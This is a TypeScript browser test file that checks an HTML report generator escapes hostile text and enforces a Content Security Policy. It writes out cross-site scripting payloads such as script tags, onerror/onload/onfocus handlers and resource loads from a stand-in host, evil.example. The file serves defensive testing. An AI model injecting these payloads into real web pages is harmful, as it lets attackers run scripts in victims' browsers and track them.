import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ReportInput, ReportJob } from '../../src/report/report-input.ts';
import { HTML_PAYLOADS, TERMINAL_PAYLOADS } from '../report/hostile.ts';
import { failedJob, sampleInput, sampleJob } from '../report/sample-report.ts';
import { startBrowser } from '../support/browser.ts';
import { serve, type TestServer } from '../support/http-server.ts';
import { reportPage } from '../support/report-page.ts';

let browser: Browser;
let evil: TestServer;
beforeAll(async () => {
  browser = await startBrowser();
  evil = await serve((_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end('alert(1)'));
});
afterAll(async () => {
  await browser.close();
  await evil.close();
});

/** What a page did when it was opened, scrolled, focused and clicked all over. */
interface Seen {
  readonly ran: number;
  readonly requests: readonly string[];
  /** Elements with the names of their attributes, each kind once. */
  readonly kinds: readonly string[];
  readonly blocked: readonly string[];
  readonly text: string;
}

async function open(text: string): Promise<Seen> {
  const host = await serve((_, response) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(text));
  const page: Page = await browser.newPage();
  const requests: string[] = [];
  const blocked: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('console', (message) => /Content Security Policy/i.test(message.text()) && blocked.push(message.text()));
  page.on('dialog', (dialog) => void dialog.dismiss().catch(() => {}));
  try {
    await page.addInitScript(`window.ran = 0; for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => { window.ran++; };`);
    await page.goto(host.url, { waitUntil: 'load' });
    const seen = (await page.evaluate(`(async () => {
      const all = [...document.querySelectorAll('*')];
      for (const element of all) {
        for (const kind of ['click', 'focus', 'mouseover', 'toggle', 'pointerenter', 'animationend'])
          element.dispatchEvent(new Event(kind, { bubbles: false }));
      }
      await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 100)));
      const kindOf = (element) => element.tagName.toLowerCase() + ' ' + [...element.attributes].map(({ name }) => name).sort().join(' ') + ' ' + (element.httpEquiv ?? '');
      return { ran: window.ran, kinds: [...new Set(all.map(kindOf))], text: document.body.innerText };
    })()`)) as Pick<Seen, 'ran' | 'kinds' | 'text'>;
    return { ...seen, requests: requests.filter((url) => !url.startsWith(host.url)), blocked };
  } finally {
    await page.close();
    await host.close();
  }
}

/** Addresses that would answer: a request to them would be seen to arrive too. */
const payloads = (): readonly string[] => HTML_PAYLOADS.map((text) => text.replaceAll('https://evil.example', evil.url));

/** A batch with these texts wherever a text of the user's or of an API's comes into a report. */
function hostileBatch(texts: readonly string[]): ReportInput {
  const jobs: ReportJob[] = texts.flatMap((text, at) => [
    failedJob({ message: text }, { id: `f${at}${text}`, model: text, provider: 'ulazai', remoteId: text, tags: [text], vars: { v: text } }),
    failedJob({ message: text, class: 'lost', charged: 'yes' }, { id: `l${at}${text}`, remoteId: text }),
    failedJob({ message: text, class: 'transport', charged: 'unknown' }, { id: `u${at}${text}`, state: 'unknown', charged: null }),
    sampleJob({
      id: `s${at}${text}`,
      warning: text,
      params: { prompt: text },
      outputs: [{ path: `${text}.png`, bytes: 1, sha256: text, mediaType: text }],
    }),
  ]);
  return sampleInput(jobs, { batch: texts.join(' ') });
}

const page = reportPage;

test(`${HTML_PAYLOADS.length} HTML payloads in every field of a report run nothing and ask for nothing in a browser`, async () => {
  expect(HTML_PAYLOADS.length).toBeGreaterThanOrEqual(60);
  const tame = await open(await page(hostileBatch(payloads().map((_, at) => `harmless ${at}`))));
  const seen = await open(await page(hostileBatch(payloads())));
  expect({ ran: seen.ran, requests: seen.requests, blocked: seen.blocked }).toEqual({ ran: 0, requests: [], blocked: [] });
  // Charts, tables and pictures have many elements; the texts bring no other kind.
  expect(seen.kinds.filter((kind) => !tame.kinds.includes(kind))).toEqual([]);
  expect(evil.requests).toEqual([]);
  // They are all there to be read: the escaping hides nothing.
  for (const text of ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '</style><script>alert(1)</script>'])
    expect(seen.text).toContain(text);
});

test('control characters of every kind make no report look like another', async () => {
  const seen = await open(await page(hostileBatch([...TERMINAL_PAYLOADS])));
  // biome-ignore lint/suspicious/noControlCharactersInRegex: their absence is what is checked
  expect(seen.text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
});

/** Payloads that would work on a page that escapes nothing. */
const LIVE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<script src=https://evil.example/x.js></script>',
];

test('the same payloads on a page that escapes nothing do run and do ask; the policy of the report alone holds them back', async () => {
  const wild = LIVE.map((text) => {
    expect(HTML_PAYLOADS).toContain(text);
    return `<p>${text.replaceAll('https://evil.example', evil.url)}</p>`;
  });
  for (const text of wild) {
    const { ran, requests } = await open(`<!doctype html><meta charset=utf-8>${text}`);
    expect([text, ran + requests.length > 0]).toEqual([text, true]);
  }
  const arrived = evil.requests.length;
  expect(arrived).toBeGreaterThan(0);

  const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/.exec(await page(sampleInput([])))?.[0];
  expect(policy).toBeDefined();
  const held = await open(`<!doctype html><meta charset=utf-8>${policy}${wild.join('')}`);
  expect(held.ran).toBe(0);
  expect(held.blocked.length).toBeGreaterThan(0);
  expect(evil.requests).toHaveLength(arrived);
});
